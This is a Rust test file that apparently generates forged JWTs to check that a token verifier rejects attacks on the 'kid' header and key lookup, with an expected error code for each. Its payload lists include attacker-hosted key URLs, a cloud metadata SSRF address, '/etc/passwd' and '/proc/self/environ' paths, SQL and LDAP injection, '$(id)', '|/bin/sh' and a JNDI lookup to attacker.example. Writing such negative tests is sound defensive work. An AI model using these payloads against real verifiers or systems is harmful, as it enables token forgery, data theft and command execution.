//! A22 to A39: `kid` is an index into the published set, and nothing else brings a key.

use countersign_token::{base64_encode_standard, base64url_encode};
use serde_json::{Value, json};

use crate::kit::forge::{certificate, padded, sound_info, token_with};
use crate::kit::{
    ATTACKER_KID, CONSUMERS, GENUINE_KID, Kit, NEXT_KID, OTHER_TENANT, V2_TEMPLATE, attacker, attacker_pkcs8, genuine,
    genuine_pkcs8, issuer, jwk, next, with, without,
};
use crate::{Family, bases};

pub(crate) fn families() -> Vec<Family> {
    let mut families = vec![attackers_key(), embedded(), thumbprints(), paths(), commands(), sizes(), another()];
    families.extend(addresses());
    families.extend([certificates(), use_enc(), key_ops(), stated_algorithm(), no_exponent(), twins()]);
    families.extend([key_issuer(), foreign_certificate()]);
    families
}

fn forged(kit: &Kit) -> Kit {
    kit.clone().signed_by(attacker())
}

/// The kit with another `kid`, and without `x5t`, which would give the change away by itself.
fn named(kit: &Kit, kid: impl Into<Value>) -> Kit {
    let mut kit = kit.clone().header("kid", kid);
    kit.header.as_object_mut().unwrap().remove("x5t");
    kit
}

fn attackers_key() -> Family {
    let mut family = Family::new(22, "the attacker's key under a published kid", 8, &["signature_invalid"]);
    for kit in bases() {
        family.push(forged(&kit));
        family.push(named(&forged(&kit), NEXT_KID));
    }
    family
}

fn embedded() -> Family {
    let mut family = Family::new(23, "a key in the header", 60, &["key_in_header"]);
    let public = without(without(jwk(attacker()), "issuer"), "cloud_instance_name");
    let private = with(public.clone(), "d", "AQAB");
    let oct = json!({"kty": "oct", "k": "c2VjcmV0"});
    for kit in bases() {
        for value in [public.clone(), private.clone(), oct.clone(), json!(public.to_string()), json!(null)] {
            family.push(forged(&kit).header("jwk", value.clone()));
            family.push(forged(&kit).header("jwk", value.clone()).header("kid", ATTACKER_KID));
            family.push(kit.clone().header("jwk", value));
        }
    }
    family
}

const PLACES: [&str; 7] = [
    "https://attacker.example/keys",
    "file:///etc/passwd",
    "data:application/json,{\"keys\":[]}",
    "http://169.254.169.254/metadata/identity/oauth2/token",
    "https://login.microsoftonline.com@attacker.example/keys",
    "https://attacker.example/keys#https://login.microsoftonline.com/",
    "//attacker.example",
];

fn addresses() -> [Family; 2] {
    [(24, "jku"), (25, "x5u")].map(|(line, name)| {
        let mut family = Family::new(line, "an address for keys in the header", 60, &["key_in_header"]);
        for kit in bases() {
            family.headers(&forged(&kit), name, PLACES);
            family.headers(&kit, name, PLACES);
            family.headers(&forged(&kit), name, [json!(["https://attacker.example"])]);
        }
        family
    })
}

fn certificates() -> Family {
    let mut family = Family::new(26, "a certificate in the header", 20, &["key_in_header", "too_large"]);
    let own = base64_encode_standard(&certificate(attacker_pkcs8(), "login.microsoftonline.com"));
    let real = base64_encode_standard(&certificate(genuine_pkcs8(), "accounts.accesscontrol.windows.net"));
    for kit in bases() {
        family.headers(&forged(&kit), "x5c", [json!([own]), json!([real]), json!([own, real]), json!([])]);
        family.headers(&kit, "x5c", [json!([real])]);
    }
    family
}

fn thumbprints() -> Family {
    let codes = &["unknown_key", "thumbprint_mismatch", "header_malformed"];
    let mut family = Family::new(27, "thumbprint and kid that contradict each other", 24, codes);
    for kit in bases() {
        family.push(forged(&kit).header("x5t", GENUINE_KID).header("kid", ATTACKER_KID));
        family.push(forged(&kit).header("x5t", ATTACKER_KID));
        family.push(kit.clone().header("x5t", GENUINE_KID).header("kid", NEXT_KID));
        family.headers(&kit, "x5t", [json!(NEXT_KID), json!(""), json!(null)]);
    }
    family
}

fn paths() -> Family {
    let mut family = Family::new(28, "kid as a path", 20, &["unknown_key"]);
    for kit in bases() {
        let paths =
            ["../../../../dev/null", "/dev/null", "/proc/self/environ", "C:\\Windows\\win.ini", "..%2f..%2fkey"];
        family.headers(&forged(&kit), "kid", paths);
    }
    family
}

fn commands() -> Family {
    let codes = &["unknown_key", "key_id_malformed"];
    let mut family = Family::new(29, "kid as a query, a command or a log line", 56, codes);
    for kit in bases().map(|kit| forged(&kit)) {
        let texts = ["'OR'1'='1", "*)(uid=*", "$(id)", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "|/bin/sh"];
        family.headers(&kit, "kid", texts);
        let texts = ["' UNION SELECT 'x", "a\r\nlevel=info", "a\0b", "\u{1b}[2J", "käy", "\u{202e}yek", " ", "a\tb"];
        family.headers(&kit, "kid", texts);
    }
    family
}

fn sizes() -> Family {
    let codes = &["too_large", "key_id_malformed", "unknown_key", "header_malformed", "key_id_missing"];
    let mut family = Family::new(30, "kid of a wrong size, type or spelling", 60, codes);
    for kit in bases() {
        family.headers(&forged(&kit), "kid", [65_536, 2_000, 129, 128, 0].map(|length| "k".repeat(length)));
        let types = [json!(null), json!(1), json!([GENUINE_KID]), json!({"kid": GENUINE_KID}), json!(true)];
        family.headers(&kit, "kid", types);
        let lower = GENUINE_KID.to_lowercase();
        let texts = [lower, GENUINE_KID[..26].to_owned(), format!("{GENUINE_KID}="), format!("{GENUINE_KID}\0")];
        family.headers(&kit, "kid", texts);
        family.push(kit.without_header("kid"));
    }
    family
}

fn another() -> Family {
    let mut family = Family::new(31, "kid of another published key", 8, &["signature_invalid"]);
    for kit in bases() {
        family.push(named(&kit, NEXT_KID));
        family.push(kit.signed_by(next()));
    }
    family
}

/// Genuine tokens under keys that are published for something else, or as something else.
fn published(family: &mut Family, name: &str, values: &[Value]) {
    for base in bases() {
        for value in values {
            family.push(base.clone().keys([with(jwk(genuine()), name, value.clone())]));
        }
    }
}

fn use_enc() -> Family {
    let mut family = Family::new(33, "a key that is not for signatures", 16, &["unknown_key"]);
    published(&mut family, "use", &[json!("enc"), json!("tls"), json!(""), json!(["sig"])]);
    family
}

fn key_ops() -> Family {
    let mut family = Family::new(34, "a key that is not for verifying", 20, &["unknown_key"]);
    let values = [json!(["sign"]), json!(["encrypt", "wrapKey"]), json!([]), json!("verify"), json!(null)];
    published(&mut family, "key_ops", &values);
    family
}

fn stated_algorithm() -> Family {
    let codes = &["key_algorithm_mismatch", "unknown_key"];
    let mut family = Family::new(35, "a key for another alg", 24, codes);
    let values = ["RS384", "RS512", "PS256", "ES256", "HS256", "RSA-OAEP"].map(Value::from);
    published(&mut family, "alg", &values);
    family
}

/// Under the exponent one, everybody's padding is its own signature.
fn no_exponent() -> Family {
    let mut family = Family::new(36, "a key with an exponent that hides nothing", 8, &["unknown_key"]);
    for base in bases() {
        let kit = base.keys([with(jwk(genuine()), "e", base64url_encode(&[1]))]);
        let input = kit.token().rsplit_once('.').unwrap().0.to_owned();
        family.push_token(&kit, token_with(&input, &padded(&sound_info(input.as_bytes()), 256)));
        family.push(kit.keys([with(jwk(genuine()), "e", base64url_encode(&[1, 0, 0]))]));
    }
    family
}

fn twins() -> Family {
    let mut family = Family::new(37, "two keys under one kid", 16, &["unknown_key"]);
    let twin = with(with(jwk(attacker()), "kid", GENUINE_KID), "x5t", GENUINE_KID);
    for base in bases() {
        for keys in [[twin.clone(), jwk(genuine())], [jwk(genuine()), twin.clone()]] {
            family.push(forged(&base).keys(keys.clone()));
            family.push(base.clone().keys(keys));
        }
    }
    family
}

fn key_issuer() -> Family {
    let mut family = Family::new(38, "a key of another tenant's, or of consumers'", 12, &["key_issuer_mismatch"]);
    let other_cloud = "https://login.microsoftonline.us/{tenantid}/v2.0".to_owned();
    let [one, other] = [OTHER_TENANT, CONSUMERS].map(|tenant| issuer(V2_TEMPLATE, tenant));
    published(&mut family, "issuer", &[one, other, other_cloud].map(Value::from));
    family
}

fn foreign_certificate() -> Family {
    let mut family = Family::new(39, "a published certificate that is not the key's", 4, &["signature_invalid"]);
    let foreign = base64_encode_standard(&certificate(attacker_pkcs8(), "accounts.accesscontrol.windows.net"));
    for base in bases() {
        family.push(forged(&base).keys([with(jwk(genuine()), "x5c", json!([foreign]))]));
    }
    family
}
